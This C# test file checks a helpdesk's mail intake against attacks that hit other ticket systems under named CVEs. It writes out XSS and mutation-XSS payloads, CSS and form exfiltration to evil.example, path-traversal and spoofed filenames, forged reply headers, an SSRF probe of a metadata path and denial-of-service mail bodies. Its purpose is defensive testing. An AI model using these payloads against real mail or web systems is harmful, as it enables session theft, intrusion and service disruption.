using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using AngleSharp.Html.Parser;
using Desk.Contracts;
using Desk.Intake.Mail;
using Desk.ServiceDefaults.Identity;
using Desk.Testing;

namespace Desk.Intake.Tests.Mail;

/// <summary>
/// What has gone wrong at other desks by mail, case by case. Those that are not here are where their part is: bare CR and LF (CVE-2023-51764/5/6) in
/// <see cref="SmtpTests"/>, words on our own pages and remote pictures in the frame in Web.Tests' HostileWordsTests, more HTML in <see cref="SafeHtmlTests"/>.
/// </summary>
[Collection(MailDeskTests.Name)]
public sealed class PeersFaultsTests(MailDesk desk)
{
    private static readonly string[] NeverElements =
        ["script", "style", "svg", "math", "iframe", "form", "input", "button", "object", "embed", "link", "meta", "base", "noscript", "template", "x", "animate", "textarea"];

    private static readonly string[] KeptAttributes =
        ["href", "rel", "target", "style", "title", "alt", "open", "width", "height", "data-remote", "data-cid", "border", "align", "colspan"];

    public static TheoryData<string, string> HtmlCases => new()
    {
        { "script in the body, as Zammad CVE-2018-1000154", "<p>a</p><script>alert(1)</script>" },
        { "handler in an attribute, as FreeScout CVE-2026-32754", "<p onclick=alert(1)>a</p><img src=x onerror=alert(1)>" },
        { "handler on an unknown element, as osTicket CVE-2020-24917", "<x onload=alert(1)><details open ontoggle=alert(1)>a</details>" },
        { "svg in the body, as RTIR CVE-2026-105455", "<svg><animate onbegin=alert(1) attributeName=x></svg><p>a</p>" },
        { "CSS @import, as Zimbra CVE-2025-66376", "<style>@import url(https://evil.example/x.css)</style><p>a</p>" },
        { "CSS @import in pieces, as Zimbra CVE-2025-66376", "<p>a</p><style>@im<x></x>port 'https://evil.example'</style><style></style><style>/*</style>*/@import 'x'" },
        { "style that fetches, to tell what was typed", "<p style=\"background-image:url(https://evil.example/a);list-style-image:url(x);content:url(y)\">a</p>" },
        { "style that hides a function behind a colour", "<p style=\"border-color: rgb(0,0,0) url(https://evil.example)\">a</p><p style=\"color: rgb(url(x))\">a</p>" },
        { "style with escapes and comments", "<p style=\"background:u\\72l(https://evil.example);width:exp/**/ression(alert(1))\">a</p>" },
        { "remote picture on open, as OTRS CVE-2018-16586", "<p>a</p><img src=https://evil.example/open.gif srcset='https://evil.example/2x 2x'><table background=https://evil.example/t><tr><td>a" },
        { "base that moves every link", "<base href=https://evil.example/><a href=\"/account\">a</a>" },
        { "meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'><p>a</p>" },
        { "form that asks for a password", "<form action=https://evil.example><input name=password><button formaction=x>a</button></form><p>a</p>" },
        { "names that take the page's own place", "<p id=main name=cookie>a</p><a id=config href=https://a.example>a</a><img name=getElementById>" },
        { "markup that changes when it is read again", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></table></math><p>a</p>" },
        { "noscript that is read both ways", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p>a</p>" },
        { "data address that is a page", "<a href='data:text/html,<script>alert(1)</script>'>a</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>" },
        { "a link that keeps its own target and opener", "<a href=https://a.example target=_top rel=opener data-remote=x>a</a><a target=_parent href=https://a.example>b</a>" },
        { "javascript behind white space", "<a href=' java\tscript:alert(1)'>a</a><a href='&#1;javascript:alert(1)'>b</a><a href='vbscript:x'>c</a>" },
    };

    [Theory]
    [MemberData(nameof(HtmlCases))]
    public async Task Html_that_ran_at_others_is_only_a_letter_here(string what, string html)
    {
        var taken = await desk.Take(Part(MailDesk.NewAddress(), "text/html; charset=utf-8", html));
        var (_, message) = await MessageAsync(taken);
        var safe = (string?)message["html"] ?? "";
        using var document = new HtmlParser().ParseDocument(safe);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.False(NeverElements.Contains(element.LocalName), $"{what}: {safe}");
            foreach (var attribute in element.Attributes)
                Assert.True(KeptAttributes.Contains(attribute.Name), $"{what}: {attribute.Name} in {safe}");
            Assert.DoesNotContain("url(", element.GetAttribute("style") ?? "", StringComparison.OrdinalIgnoreCase);
            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?|mailto|tel):", href);
                Assert.Equal(("_blank", "noopener noreferrer nofollow"), (element.GetAttribute("target"), element.GetAttribute("rel")));
            }
        }
        // Read and made safe again it is the same: no browser sees in it what we did not.
        var plain = safe.Replace(" data-remote=", " title=", StringComparison.Ordinal);
        Assert.Equal(SafeHtml.Make(plain) ?? "", SafeHtml.Make(SafeHtml.Make(plain)) ?? "");
    }

    public static TheoryData<string, string, string, string, string> FileCases => new()
    {
        { "a page that calls itself a picture, as RT CVE-2022-25802", "bild.png", "image/png", "<html><script>alert(1)</script>", "text/plain" },
        { "a picture that is a program: SVG", "logo.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "text/plain" },
        { "an invitation with markup: ICS, as Zimbra CVE-2025-66376", "mote.ics", "application/ics", "BEGIN:VCALENDAR\nSUMMARY:<img src=x onerror=alert(1)>\nEND:VCALENDAR", "text/plain" },
        { "a file that a web server would run, as FreeScout CVE-2026-27636", ".htaccess", "text/plain", "AddType application/x-httpd-php .txt", "text/plain" },
        { "a name with an invisible end, as FreeScout CVE-2026-28289", "\u200B.htaccess", "text/plain", "x", "text/plain" },
        { "a name turned around", "faktura\u202Efdp.exe", "application/pdf", "MZ\u0001\u0002", "application/octet-stream" },
        { "a name with markup, as osTicket CVE-2020-24917", "<img src=x onerror=alert(1)>.txt", "text/plain", "x", "text/plain" },
        { "a name with a path", "../../../etc/cron.d/x", "text/plain", "x", "text/plain" },
        { "a device's name", "con.txt", "text/plain", "x", "text/plain" },
    };

    [Theory]
    [MemberData(nameof(FileCases))]
    public async Task A_file_is_a_download_of_the_type_its_bytes_show_under_a_name_that_is_only_a_name(string what, string name, string type, string content, string isType)
    {
        var sender = MailDesk.NewAddress();
        var taken = await desk.Take($"From: {sender}\nSubject: fil\nMessage-ID: <{MailDesk.NewId()}>\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nHej\n--b\n"
            + $"Content-Type: {type}\nContent-Disposition: attachment; filename*=utf-8''{Uri.EscapeDataString(name)}\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(Encoding.UTF8.GetBytes(content))}\n--b--\n");
        var (_, message) = await MessageAsync(taken);
        var file = message["attachments"]![0]!;
        using var answer = await desk.Host.As(Callers.Agent).GetAsync($"/api/v1/attachments/{file["id"]}");
        Assert.Equal(isType, answer.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.StartsWith("sandbox", answer.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        var kept = (string)file["name"]!;
        Assert.True(kept.Length > 0 && !kept.StartsWith('.') && kept.AsSpan().IndexOfAny("<>:\"/\\|?*\u202E\u200B") < 0 && !kept.StartsWith("con.", StringComparison.Ordinal), $"{what}: {kept}");
    }

    [Fact]
    public async Task A_zip_is_kept_as_it_came_and_never_unpacked_as_FreeScout_CVE_2026_41193()
    {
        var name = "desk-was-here-" + MailDesk.NewId();
        using var zip = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(zip, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
            archive.CreateEntry("../../../../tmp/" + name);
        var taken = await desk.Take($"From: {MailDesk.NewAddress()}\nSubject: zip\nMessage-ID: <{MailDesk.NewId()}>\nContent-Type: application/zip; name=a.zip\nContent-Disposition: attachment; filename=a.zip\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(zip.ToArray())}\n");
        var (_, message) = await MessageAsync(taken);
        Assert.Equal(zip.ToArray(), await desk.Host.As(Callers.Agent).GetByteArrayAsync($"/api/v1/attachments/{message["attachments"]![0]!["id"]}"));
        Assert.False(File.Exists("/tmp/" + name));
    }

    public static TheoryData<string, string> ForgedCases => new()
    {
        { "In-Reply-To, as FreeScout CVE-2026-47123", "In-Reply-To: <{0}>" },
        { "References, as FreeScout CVE-2026-47123", "References: <x@y.example> <{0}>" },
        { "the number in the subject", "Subject: Re: [{1}] Skrivaren" },
        { "Reply-To of the owner, as GitLab H1-1433607", "In-Reply-To: <{0}>\nReply-To: {2}" },
        { "Sender of the owner", "In-Reply-To: <{0}>\nSender: {2}" },
        { "a second From of the owner", "In-Reply-To: <{0}>\nFrom: {2}" },
        { "headers that a server in front might set, as RT CVE-2023-41259", "In-Reply-To: <{0}>\nX-RT-Actor: root\nX-Desk-Ticket: {1}\nX-Desk-Requester: {2}\nX-Forwarded-Email: {2}\nX-OTRS-Owner: {2}" },
    };

    [Theory]
    [MemberData(nameof(ForgedCases))]
    public async Task No_header_lets_a_stranger_write_in_anothers_ticket_or_as_another(string what, string headers)
    {
        var (owner, id, stranger) = (MailDesk.NewAddress(), MailDesk.NewId(), MailDesk.NewAddress("elsewhere.example"));
        var ticket = await desk.Take(MailDesk.Mail(owner, id: id));
        var taken = await desk.Take($"From: {stranger}\n{string.Format(null, headers, id, ticket.Number, owner)}\nMessage-ID: <{MailDesk.NewId()}>\n\nSläpp in mig.");
        Assert.True(taken is { Outcome: MailOutcome.Ticket } && taken.Number != ticket.Number, what);
        Assert.Equal(stranger, await desk.Host.Value<string>("select from_email from message where mail_id = $1", taken.Id));
        Assert.Equal(1, await desk.Host.Value<long>("select count(*) from message join ticket on ticket.id = ticket_id where 'D-' || number = $1", ticket.Number!));
    }

    [Fact]
    public async Task Who_was_copied_blindly_is_told_to_nobody_as_OTRS_CVE_2021_21435_and_CVE_2020_1775()
    {
        var (sender, hidden) = (MailDesk.NewAddress(), MailDesk.NewAddress());
        var taken = await desk.Take(MailDesk.Mail(sender, headers: $"Bcc: {hidden}"));
        var (number, _) = await MessageAsync(taken);
        Assert.DoesNotContain(hidden, await desk.Host.As(Callers.Agent).GetStringAsync($"/api/v1/tickets/{number}/messages"), StringComparison.Ordinal);
        Assert.Equal(0, await desk.Host.Value<long>("select count(*) from participant where email = $1", hidden));
    }

    [Fact]
    public async Task Internal_notes_made_of_mail_reach_no_requester_as_Zammad_CVE_2022_40816()
    {
        var sender = MailDesk.NewAddress();
        var id = MailDesk.NewId();
        var ticket = await desk.Take(MailDesk.Mail(sender, id: id));
        await desk.Take(MailDesk.Mail(sender, "Autosvar: borta", "hemligt i anteckning", $"In-Reply-To: <{id}>\nAuto-Submitted: auto-replied"));
        var requester = desk.Host.As(Person(sender));
        Assert.DoesNotContain("hemligt", await requester.GetStringAsync($"/api/v1/tickets/{ticket.Number}/messages"), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await requester.GetAsync($"/api/v1/tickets/{ticket.Number}/notes")).StatusCode);
    }

    [Fact]
    public async Task Another_reads_neither_ticket_message_nor_file_by_id_as_Zammad_CVE_2026_13229_and_CVE_2026_34722_FreeScout_CVE_2026_40591()
    {
        var sender = MailDesk.NewAddress();
        var taken = await desk.Take($"From: {sender}\nSubject: fil\nMessage-ID: <{MailDesk.NewId()}>\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nHej\n--b\nContent-Disposition: attachment; filename=a.txt\n\nhemligt\n--b--\n");
        var (number, message) = await MessageAsync(taken);
        string[] paths = [$"tickets/{number}", $"tickets/{number}/messages", $"tickets/{number}/messages/{message["id"]}", $"attachments/{message["attachments"]![0]!["id"]}"];
        foreach (var path in paths)
        {
            Assert.Equal(HttpStatusCode.OK, (await desk.Host.As(Person(sender)).GetAsync("/api/v1/" + path)).StatusCode);
            Assert.Equal(HttpStatusCode.NotFound, (await desk.Host.As(Person(MailDesk.NewAddress("elsewhere.example"))).GetAsync("/api/v1/" + path)).StatusCode);
            Assert.Equal(HttpStatusCode.NotFound, (await desk.Host.As(Callers.RequesterMachine).GetAsync("/api/v1/" + path)).StatusCode);
        }
        // A message of one ticket is not to be had through another.
        var own = await desk.Take(MailDesk.Mail(MailDesk.NewAddress()));
        Assert.Equal(HttpStatusCode.NotFound, (await desk.Host.As(Callers.Agent).GetAsync($"/api/v1/tickets/{own.Number}/messages/{message["id"]}")).StatusCode);
    }

    [Fact]
    public async Task No_address_in_a_mail_is_called_as_osTicket_CVE_2020_24881_and_FreeScout_CVE_2026_34443()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var address = $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}/latest/meta-data";
        var taken = await desk.Take(Part(MailDesk.NewAddress(), "text/html", $"<img src='{address}'><link rel=stylesheet href='{address}'><iframe src='{address}'></iframe><a href='{address}'>a</a>"));
        await desk.Take($"From: {MailDesk.NewAddress()}\nSubject: x\nMessage-ID: <{MailDesk.NewId()}>\nContent-Type: message/external-body; access-type=URL; URL=\"{address}\"\n\nContent-Type: text/plain\n\n");
        await MessageAsync(taken);
        Assert.False(listener.Pending());
    }

    public static TheoryData<string, string> SlowCases => new()
    {
        { "comments within comments, as OTRS CVE-2021-36093", "From: a@b.example\nTo: " + new string('(', 30_000) + "\nSubject: x\n\nx" },
        { "a subject of spaces, as OTRS CVE-2019-18180", "From: a@b.example\nSubject: " + new string(' ', 30_000) + "x" + new string('\t', 30_000) + "\n\nx" },
        { "encoded words without end, as OTRS CVE-2026-48187", "From: a@b.example\nSubject: " + string.Concat(Enumerable.Repeat("=?utf-8?Q?=C3=A5?= ", 2_500)) + "=?utf-8?Q?" + "\n\nx" },
        { "boundaries that begin alike, as MIME-tools CVE-2026-116273", "From: a@b.example\nContent-Type: multipart/mixed; boundary=\"" + new string('-', 60) + "\"\n\n" + string.Concat(Enumerable.Repeat(new string('-', 61) + "\n", 15_000)) },
        { "parts within parts", "From: a@b.example\n" + string.Concat(Enumerable.Range(0, 2_000).Select(i => $"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n")) },
        { "parameters in ten thousand pieces", "From: a@b.example\nContent-Type: text/plain" + string.Concat(Enumerable.Range(0, 3_000).Select(i => $"; name*{i}=a")) + "\n\nx" },
        { "elements within elements", "From: a@b.example\nContent-Type: text/html\n\n" + string.Concat(Enumerable.Repeat("<div><b>", 60_000)) },
        { "tables within tables", "From: a@b.example\nContent-Type: text/html\n\n" + string.Concat(Enumerable.Repeat("<table><tr><td>", 20_000)) },
        { "quotes within quotes", "From: a@b.example\n\n" + string.Concat(Enumerable.Range(1, 400).Select(i => new string('>', i) + " a\n")) + new string('>', 100_000) },
        { "a line like the head of a quote, without end", "From: a@b.example\n\nOn " + string.Concat(Enumerable.Repeat("a, b ", 30_000)) + "\n" + new string('_', 50_000) },
        { "an address without end", "From: \"" + new string('\\', 30_001) + "\" <" + new string('a', 20_000) + "@b.example>\n\nx" },
    };

    [Theory]
    [MemberData(nameof(SlowCases))]
    public async Task No_mail_hangs_the_reader(string what, string mail)
    {
        var watch = Stopwatch.StartNew();
        var taken = await desk.Take($"Message-ID: <{MailDesk.NewId()}>\n{mail}");
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(8), $"{what}: {watch.Elapsed}");
        Assert.True(Enum.IsDefined(taken.Outcome));
    }

    [Fact]
    public async Task The_same_mail_again_and_again_is_one_ticket_and_what_a_machine_wrote_gets_no_answer_as_OTRS_CVE_2010_4767()
    {
        await desk.Host.Broker.Hear<TicketRegistered>();
        var mail = MailDesk.Mail("alarm@monitor.example", $"Disk {MailDesk.NewId()}", headers: "Auto-Submitted: auto-generated");
        var taken = new List<TakenMail>();
        for (var i = 0; i < 10; i++)
            taken.Add(await desk.Take($"Received: from hop{i}.example\n{mail}"));
        Assert.Single(taken.Distinct());
        Assert.True((await desk.Host.Broker.Next<TicketRegistered>(ticket => ticket.Number == taken[0].Number)).Automatic);
    }

    [Fact]
    public async Task A_confirmation_to_an_address_nobody_vouched_for_is_told_to_carry_none_of_the_writers_text_as_Zendesk_2025()
    {
        await desk.Host.Broker.Hear<TicketRegistered>();
        var taken = await desk.Take(MailDesk.Mail(MailDesk.NewAddress("victim.example"), "You won! https://evil.example"));
        Assert.False((await desk.Host.Broker.Next<TicketRegistered>(ticket => ticket.Number == taken.Number)).Vouched);
    }

    private static Caller Person(string email) => new(Guid.CreateVersion7(), "Person", email, "requester", false, "sv");

    private static string Part(string from, string type, string content)
        => $"From: {from}\nSubject: brev\nMessage-ID: <{MailDesk.NewId()}>\nContent-Type: {type}\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(Encoding.UTF8.GetBytes(content))}\n";

    private async Task<(string Number, JsonNode Message)> MessageAsync(TakenMail taken)
    {
        Assert.Equal(MailOutcome.Ticket, taken.Outcome);
        var messages = await desk.Host.As(Callers.Agent).GetFromJsonAsync<JsonObject>($"/api/v1/tickets/{taken.Number}/messages");
        return (taken.Number!, messages!["items"]![0]!);
    }
}
